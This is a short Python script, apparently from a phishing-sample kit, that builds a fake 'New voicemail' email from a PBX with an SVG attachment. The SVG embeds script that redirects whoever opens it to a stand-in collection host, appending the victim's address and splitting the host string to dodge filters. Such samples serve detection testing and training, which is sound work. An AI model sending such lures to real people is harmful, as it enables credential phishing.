"""A picture with a script that leads away.
Scenario: KnowBe4, 2025 (SVG in phishing); Cisco Talos, 2022-12-13."""
from kit import *


def make():
    svg = ('<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="250">'
           '<script type="application/ecmascript"><![CDATA[ const r = "soumu@example.co.jp"; '
           "window.location.href = 'https://voice.collect' + '.example.net/#' + r; ]]></script></svg>")
    return (Mail("New voicemail", "noreply@pbx.example.org", name="PBX", date="Mon, 18 Nov 2024 03:00:00 +0000")
            .text("You have a new voice message. Please see the attachment.\n")
            .attach("Voicemail_0012.svg", svg.encode(), "image/svg+xml").bytes())
